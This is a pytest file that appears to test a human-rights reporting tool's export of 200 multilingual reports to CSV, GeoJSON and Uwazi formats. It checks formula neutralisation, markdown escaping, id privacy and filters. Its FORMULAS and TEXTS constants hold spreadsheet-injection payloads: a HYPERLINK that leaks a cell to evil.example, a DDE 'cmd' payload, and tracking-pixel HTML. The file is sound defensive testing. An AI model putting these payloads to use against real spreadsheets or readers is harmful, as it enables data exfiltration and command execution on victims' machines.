"""200 hostile, multilingual reports through the real path (author key, sealed envelopes,
bundle, HQ ingest), exported in every format and read back with independent readers: the
``csv`` module, the ``geojson`` package, GDAL/OGR through ``pyogrio``, and a reader that
follows Uwazi's own CSV import rules (huridocs/uwazi ``app/api/csv``)."""

from __future__ import annotations

import calendar
import csv
import datetime
import io
import json
import re
import secrets
import uuid
import zipfile
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import geojson
import pyogrio
import pyogrio.raw
import pytest

from fieldsync.export_filters import DECIMALS, ExportOptions, publication_id, publication_key
from fieldsync.export_uwazi import PROPERTIES, THESAURI
from fieldsync.exports import CsvStyle, export_file
from fieldsync_protocol import crypto, envelope
from fieldsync_protocol.keytext import KeyKind, key_to_text
from fieldsync_protocol.report import validate_report
from tests.fieldsync.offline_support import (
    Net,
    author_seed,
    body,
    copy_network,
    hq_manifest,
    ingest,
    open_hq,
    write_bundle,
)

REPORTS = 200
#: Text a spreadsheet would run, in every free-text field of some report.
FORMULAS = (
    "=1+2",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    '  =HYPERLINK("http://evil.example","x")',
    "\n@import",
)
TEXTS = (
    'اعتقل ثلاثة تجار في السوق، وقال شاهد: "لم نرَ أحداً منذ ذلك الحين".',
    'ဈေးထဲမှာ ကုန်သည် သုံးဦး ဖမ်းဆီးခံရသည်။ "မြင်သူ" ပြောသည်။',
    'Three traders detained at the market, one said "we were beaten"; later, released.',
    "\u202bRTL override: שלום, עולם\u202c and a mark \u200f at the end",
    "Line one\nline two, with, commas\r\nline three | pipes :: colons # hash *stars* [link](x)",
    '<img src="http://evil.example/pixel.png"> ![tracker](http://evil.example/t.png) `code`',
)
SENSITIVITIES = ("public", "internal", "restricted", "confidential")
OCCURRED = (
    {"start": "2025-03", "precision": "month", "approximate": False},
    {"start": "2025-03-15", "precision": "day", "approximate": True},
    {"start": "2024", "precision": "year", "approximate": True},
    {"start": "2025-02-28T23:30+03:00", "precision": "minute", "approximate": False},
    {"start": "2025-01-30", "end": "2025-02-02", "precision": "day", "approximate": False},
    {"start": "2025-03-10T09:00Z", "precision": "month", "approximate": True},
)
#: The span each OCCURRED entry means, as first and last calendar day (checked by hand).
SPANS = (
    ("2025-03-01", "2025-03-31"),
    ("2025-03-15", "2025-03-15"),
    ("2024-01-01", "2024-12-31"),
    ("2025-02-28", "2025-02-28"),
    ("2025-01-30", "2025-02-02"),
    ("2025-03-01", "2025-03-31"),
)
LOCATIONS: tuple[dict[str, Any] | None, ...] = (
    {"source": "gps", "lat": 0, "lon": 0, "accuracy_m": 5},
    {"source": "gps", "lat": 12.3657123, "lon": -1.5339456, "accuracy_m": 20},
    {"source": "map", "lat": -33.8688197, "lon": 151.2092955},
    {"source": "text"},
    None,
    {"source": "gps", "lat": 16.8661, "lon": 96.1951, "accuracy_m": 3000},
)


def _free(index: int, base: str) -> str:
    """Free text: every fourth report's fields start with something a spreadsheet runs."""
    return FORMULAS[index % len(FORMULAS)] + " " + base if index % 4 == 0 else base


@dataclass(frozen=True)
class Written:
    index: int
    report_id: str
    fields: dict[str, Any]

    @property
    def sensitivity(self) -> str:
        return str(self.fields["sensitivity"])


def _fields(index: int, corrects: str | None) -> dict[str, Any]:
    text = TEXTS[index % len(TEXTS)]
    location = LOCATIONS[index % len(LOCATIONS)]
    fields: dict[str, Any] = {
        "narrative": _free(index, f"{text} #{index}"),
        "title": _free(index + 1, f"{text[:40]} #{index}"),
        "categories": [
            ("arbitrary-detention", "threats", "land-grab", "custom-local-key")[index % 4],
            *(["excessive-force"] if index % 3 == 0 else []),
        ],
        "occurred": OCCURRED[index % len(OCCURRED)],
        "sensitivity": SENSITIVITIES[index % len(SENSITIVITIES)],
        "language": ("ar", "my", "en", "he", "en", "en")[index % len(TEXTS)],
        "consent": {
            "share_with_hq": True,
            "informed": index % 2 == 0,
            "publish": index % 3 == 0,
            "contact_ok": index % 5 == 0,
        },
        "origin": {"channel": "cli", "monitor": _free(index, "مراقب-7")[:32]},
        "people": [
            {"role": "victim", "code": _free(index, "V-1")[:32], "count": 3, "name": "Aung Aung"},
            {"role": "perpetrator", "type": _free(index + 4, "state, security")[:64], "count": 6},
        ],
    }
    if location is not None:
        place = _free(index + 8, f"{text[:30]}, sector {index}")
        fields["location"] = {**location, "place": place, "admin": [_free(index, "Région, Centre")]}
    if corrects is not None:
        fields["supersedes"] = corrects
    return fields


@pytest.fixture(scope="module")
def corpus(base_net: Net, tmp_path_factory: pytest.TempPathFactory) -> tuple[Net, list[Written]]:
    """200 reports signed with author A's key (unlocked once with its passphrase), each
    validated and sealed to HQ in its own envelope, chained, carried in one bundle and
    ingested by HQ: built once for the module."""
    net = copy_network(base_net, tmp_path_factory.mktemp("corpus") / "net")
    manifest = hq_manifest(net)
    seed = author_seed(net)
    written: list[Written] = []
    items = []
    previous = envelope.GENESIS
    for index in range(REPORTS):
        # Every 25th report corrects the one written just before it.
        corrects = written[-1].report_id if index % 25 == 24 else None
        fields = _fields(index, corrects)
        report_id = str(uuid.uuid4())
        sealed = envelope.seal_report(
            envelope.SealInput(
                network_id=manifest.network_id,
                hq_key_id=manifest.current_hq_key_id,
                hq_public_key=manifest.hq_keys[manifest.current_hq_key_id],
                author_seed=seed,
                sequence=index + 1,
                previous=previous,
                claimed_time=1_740_000_000 + index,
                body=validate_report(body(id=report_id, **fields)),
            ),
            secrets.token_bytes(32),
        )
        previous = sealed.header_hash
        items.append(sealed.item)
        written.append(Written(index, report_id, fields))
    write_bundle(net, net.usb / "a.bundle", items)
    summary = ingest(net, net.usb / "a.bundle")
    assert summary.new == REPORTS, summary.as_dict()
    return net, written


def _export(net: Net, fmt: str, out: Path, **options: Any) -> Path:
    style = CsvStyle(excel=options.pop("excel", False), delimiter=options.pop("delimiter", ","))
    with open_hq(net) as headquarters:
        export_file(headquarters.database(), net.hq, fmt, out, ExportOptions(**options), style)
    return out


def _ids(net: Net, written: list[Written]) -> dict[str, Written]:
    """Each report by the publication id HQ gives it (computed here from the key file)."""
    key = publication_key(net.hq)
    author = key_to_text(KeyKind.AUTHOR, crypto.signing_public_key(author_seed(net)))
    return {publication_id(key, author, w.report_id): w for w in written}


def _dangerous(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0")) or cell.lstrip().startswith(
        ("=", "+", "-", "@")
    )


def _neutralised(original: str) -> str:
    return "'" + original if _dangerous(original) else original


# --- CSV -----------------------------------------------------------------------------------


def test_csv_reads_back_the_same_text_with_every_formula_neutralised(
    corpus: tuple[Net, list[Written]], tmp_path: Path
) -> None:
    net, written = corpus
    raw = _export(net, "csv", tmp_path / "r.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM unless --excel
    assert raw.count(b"\r\n") >= REPORTS + 1  # RFC 4180 CRLF records
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    by_id = _ids(net, written)
    expected = [w for w in written if w.sensitivity != "confidential"]
    assert len(rows) == len(expected) == 150  # confidential ones absent by default
    numeric = {"lat", "lon", "accuracy_m", "coordinate_decimals"}
    neutralised = 0
    for row in rows:
        w = by_id[row["publication_id"]]
        assert row["narrative"] == _neutralised(w.fields["narrative"])
        assert row["title"] == _neutralised(w.fields["title"])
        location = w.fields.get("location") or {}
        assert row["place"] == _neutralised(location.get("place", ""))
        assert row["admin"] == _neutralised("|".join(location.get("admin", [])))
        people = json.loads(row["people_json"])
        assert people[0]["code"] == w.fields["people"][0]["code"]  # inside JSON: not a formula
        assert "name" not in people[0]  # names only with include_names
        for column, cell in row.items():
            if column not in numeric:
                assert not _dangerous(cell), (column, cell)
        neutralised += row["narrative"].startswith("'")
    assert neutralised == len([w for w in expected if _dangerous(w.fields["narrative"])]) > 30


def test_csv_links_corrections_and_carries_consent(
    corpus: tuple[Net, list[Written]], tmp_path: Path
) -> None:
    net, written = corpus
    text = _export(net, "csv", tmp_path / "r.csv", include_confidential=True).read_text("utf-8")
    rows = {r["publication_id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    by_report = {w.report_id: pid for pid, w in _ids(net, written).items()}
    corrections = [w for w in written if "supersedes" in w.fields]
    assert len(corrections) == 8
    for w in corrections:
        fixed, old = by_report[w.report_id], by_report[w.fields["supersedes"]]
        assert rows[fixed]["supersedes"] == old and rows[fixed]["status"] == "current"
        assert rows[old]["superseded_by"] == fixed and rows[old]["status"] == "superseded"
    assert all(row["consent_share_with_hq"] == "true" for row in rows.values())
    publish = [r for r in rows.values() if r["consent_publish"] == "true"]
    assert len(publish) == len([w for w in written if w.fields["consent"]["publish"]])


def test_excel_csv_has_a_bom_and_semicolons(
    corpus: tuple[Net, list[Written]], tmp_path: Path
) -> None:
    net, _ = corpus
    raw = _export(net, "csv", tmp_path / "x.csv", excel=True, delimiter=";").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfpublication_id;status;")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 151 and all(len(r) == len(rows[0]) for r in rows)


def test_no_device_side_id_leaves_hq_in_publication_formats(
    corpus: tuple[Net, list[Written]], tmp_path: Path
) -> None:
    """Issue #11: a published report cannot be matched to the id on the author's device."""
    net, written = corpus
    with open_hq(net) as headquarters:
        envelope_ids = [r[0] for r in headquarters.database().execute(
            "SELECT envelope_id FROM reports").fetchall()]  # fmt: skip
    author = key_to_text(KeyKind.AUTHOR, crypto.signing_public_key(author_seed(net)))
    for fmt in ("jsonl", "csv", "geojson", "uwazi-csv", "uwazi-zip"):
        out = _export(net, fmt, tmp_path / f"all.{fmt}", include_confidential=True)
        data = out.read_bytes()
        if fmt == "uwazi-zip":
            data = zipfile.ZipFile(out).read("import.csv")
        text = data.decode("utf-8")
        assert not any(w.report_id in text for w in written), fmt
        assert not any(e in text for e in envelope_ids), fmt
        assert author not in text, fmt


# --- GeoJSON -------------------------------------------------------------------------------


def test_geojson_is_valid_and_ogr_reads_flat_typed_fields(
    corpus: tuple[Net, list[Written]], tmp_path: Path
) -> None:
    net, written = corpus
    path = _export(net, "geojson", tmp_path / "r.geojson")
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    text = path.read_text("utf-8")
    collection = geojson.loads(text)
    assert collection.is_valid, collection.errors()
    assert len(collection["features"]) == 150
    # RFC 7946 §11.2: no more than six decimals; fewer as sensitivity asks.
    by_id = _ids(net, written)
    for feature in json.loads(text, parse_float=Decimal)["features"]:
        w = by_id[feature["properties"]["publication_id"]]
        props = feature["properties"]
        assert isinstance(props["occurred_approximate"], bool)
        assert all(not isinstance(v, dict | list) for v in props.values())  # flat
        if feature["geometry"] is None:
            assert (w.fields.get("location") or {}).get("lat") is None
            continue
        lon, lat = feature["geometry"]["coordinates"]
        source = w.fields["location"]
        decimals = DECIMALS[w.sensitivity]
        assert -lat.as_tuple().exponent <= decimals and -lon.as_tuple().exponent <= decimals
        assert float(lat) == round(source["lat"], decimals)
        assert float(lon) == round(source["lon"], decimals)
    zero = [f for f in collection["features"] if f["geometry"]
            and f["geometry"]["coordinates"] == [0, 0]]  # fmt: skip
    assert zero, "a report at lat 0, lon 0 keeps its point"

    info = pyogrio.read_info(path)
    types = dict(zip(info["fields"], info["dtypes"], strict=True))
    assert info["features"] == 150 and info["geometry_type"] == "Point"
    assert types["publication_id"] == "object" and types["narrative"] == "object"
    assert types["occurred_approximate"] == "bool"
    assert types["accuracy_m"] == "float64" and types["attachment_count"] == "int32"
    for typed in ("occurred_start", "occurred_end", "received_at"):
        assert types[typed].startswith("datetime64"), (typed, types[typed])
    _meta, _fids, geometry, values = pyogrio.raw.read(path)
    columns = dict(zip(info["fields"], values, strict=True))
    narratives = {str(n) for n in columns["narrative"]}
    assert narratives == {w.fields["narrative"] for w in written if w.sensitivity != "confidential"}
    assert sum(g is None for g in geometry) == len(
        [w for w in written if w.sensitivity != "confidential"
         and (w.fields.get("location") or {}).get("lat") is None]
    )  # fmt: skip


# --- Uwazi ---------------------------------------------------------------------------------


def _uwazi_safe_name(header: str) -> str:
    """``safeName`` (shared/propertyNames.ts): trim, [^a-z0-9] → _, lowercase."""
    return re.sub(r"[^a-z0-9]", "_", header.strip(), flags=re.IGNORECASE).lower()


def _uwazi_date(value: str) -> int:
    """``parseDateValue``: moment.utc(value, ['YYYY/MM/DD' (the default instance format),
    'LL', 'YYYY MM DD', 'YYYY/MM/DD', 'YYYY-MM-DD', 'YYYY']).unix(). We accept only what
    these formats read without guessing, and fail on anything else (e.g. a time)."""
    for pattern in (r"(\d{4})[-/ ](\d{2})[-/ ](\d{2})", r"(\d{4})"):
        match = re.fullmatch(pattern, value)
        if match:
            parts = [int(p) for p in match.groups()] + [1, 1]
            return calendar.timegm(datetime.date(*parts[:3]).timetuple())
    raise AssertionError(f"Uwazi would not parse {value!r} as a date without loss")


def _uwazi_row(row: dict[str, str]) -> dict[str, Any]:
    """One CSV row as Uwazi's importer turns it into metadata for our template."""
    named = {_uwazi_safe_name(k): v for k, v in row.items()}
    lat, lon = (
        named["location_geolocation"].split("|") if named["location_geolocation"] else ("", "")
    )
    start, end = named["occurred"].split(":")  # dateRangeImportSeparator
    return {
        "title": named["title"],
        "geolocation": (float(lat), float(lon)) if lat and lon else None,
        "occurred": (_uwazi_date(start), _uwazi_date(end)),
        "categories": [c.strip() for c in named["categories"].split("|") if c.strip()],
        "narrative": named["narrative"],
        "publication_id": named["publication_id"],
        "selects": {
            thesaurus: [v.strip() for v in named[column].split("|") if v.strip()]
            for column, _label, kind, thesaurus in PROPERTIES
            if thesaurus is not None
        },
        "attachments": named.get("attachments", ""),
    }


def _unmarkdown(text: str) -> str:
    """What a CommonMark renderer shows for our escaped text: ``\\x`` → ``x``."""
    return re.sub(r"\\([!-/:-@\[-`{-~\n])", r"\1", text)


def test_uwazi_csv_gives_back_locations_date_ranges_and_labels(
    corpus: tuple[Net, list[Written]], tmp_path: Path
) -> None:
    net, written = corpus
    raw = _export(net, "uwazi-csv", tmp_path / "u.csv").read_text("utf-8")
    reader = csv.DictReader(io.StringIO(raw, newline=""))
    assert reader.fieldnames is not None and "id" not in reader.fieldnames  # not an update
    assert "location_geolocation" in reader.fieldnames and "attachments" not in reader.fieldnames
    by_id = _ids(net, written)
    rows = [_uwazi_row(r) for r in reader]
    assert len(rows) == 150
    for row in rows:
        w = by_id[row["publication_id"]]
        location = w.fields.get("location") or {}
        if location.get("lat") is None:
            assert row["geolocation"] is None
        else:
            decimals = DECIMALS[w.sensitivity]
            assert row["geolocation"] == (
                round(location["lat"], decimals),
                round(location["lon"], decimals),
            )
        first, last = SPANS[w.index % len(SPANS)]
        assert row["occurred"] == (_uwazi_date(first), _uwazi_date(last))
        assert _unmarkdown(row["narrative"]) == (
            w.fields["narrative"].replace("\r\n", "\n").replace("\r", "\n")
        )
        assert not re.search(r"(?<!\\)[<!\[]", row["narrative"])  # no raw HTML, images, links
        labels = row["categories"]
        assert (
            "Arbitrary detention" in labels
            or "Threats and intimidation" in labels
            or ("Land grab" in labels or "Custom local key" in labels)
        )
        assert all(re.fullmatch(r"[A-Z][a-z ]+", label) for label in labels)
        for thesaurus, values in row["selects"].items():  # every label is in the thesaurus
            known = {v.lower() for v in THESAURI[thesaurus]} | {"custom local key"}
            assert values or thesaurus == "Consent", thesaurus
            assert {v.lower() for v in values} <= known, (thesaurus, values)


def test_uwazi_zip_holds_import_csv_and_only_exported_attachments(
    corpus: tuple[Net, list[Written]], tmp_path: Path
) -> None:
    net, _ = corpus
    out = _export(net, "uwazi-zip", tmp_path / "u.zip", status="superseded")
    archive = zipfile.ZipFile(out)
    assert archive.namelist() == ["import.csv"]  # no attachments in this corpus
    rows = list(csv.DictReader(io.StringIO(archive.read("import.csv").decode(), newline="")))
    assert len(rows) == 6  # 8 superseded, 2 of them confidential
    assert {r["status"] for r in rows} == {"Superseded by a correction"}
    assert all(r["attachments"] == "" for r in rows)


def _overlaps(w: Written, first: str, last: str) -> bool:
    start, end = SPANS[w.index % len(SPANS)]
    return start <= last and end >= first


# --- filters -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({}, lambda w: w.sensitivity != "confidential"),
        ({"include_confidential": True}, lambda w: True),
        ({"max_sensitivity": "internal"}, lambda w: w.sensitivity in ("public", "internal")),
        ({"categories": ("threats",)}, lambda w: w.index % 4 == 1),
        ({"consent": ("publish", "informed"), "include_confidential": True},
         lambda w: w.index % 6 == 0),
        ({"since": "2025-03", "until": "2025-03", "include_confidential": True},
         lambda w: _overlaps(w, "2025-03-01", "2025-03-31")),
        ({"until": "2024-12-31", "include_confidential": True}, lambda w: w.index % 6 == 2),
        ({"since": "2025-02-01", "until": "2025-02-28", "include_confidential": True},
         lambda w: _overlaps(w, "2025-02-01", "2025-02-28")),
        ({"status": "superseded", "include_confidential": True},
         lambda w: w.index % 25 == 23),
        ({"authors": ("monitor-17",)}, lambda w: w.sensitivity != "confidential"),
        ({"authors": ("someone-else",)}, lambda w: False),
        ({"received_until": "2000-01-01"}, lambda w: False),
        ({"received_since": "2000-01-01"}, lambda w: w.sensitivity != "confidential"),
    ],
)  # fmt: skip
def test_filters_hold_in_every_format(
    corpus: tuple[Net, list[Written]], tmp_path: Path, options: dict[str, Any], expected: Any
) -> None:
    net, written = corpus
    by_id = _ids(net, written)
    want = sorted(w.index for w in written if expected(w))
    for fmt in ("csv", "geojson", "uwazi-csv", "jsonl"):
        out = _export(net, fmt, tmp_path / f"f.{fmt}", **options)
        text = out.read_text("utf-8")
        if fmt == "geojson":
            ids = [f["properties"]["publication_id"] for f in json.loads(text)["features"]]
        elif fmt == "jsonl":
            ids = [json.loads(line)["hq"]["publication_id"] for line in text.splitlines()]
        else:
            ids = [r["publication_id"] for r in csv.DictReader(io.StringIO(text, newline=""))]
        assert sorted(by_id[i].index for i in ids) == want, fmt
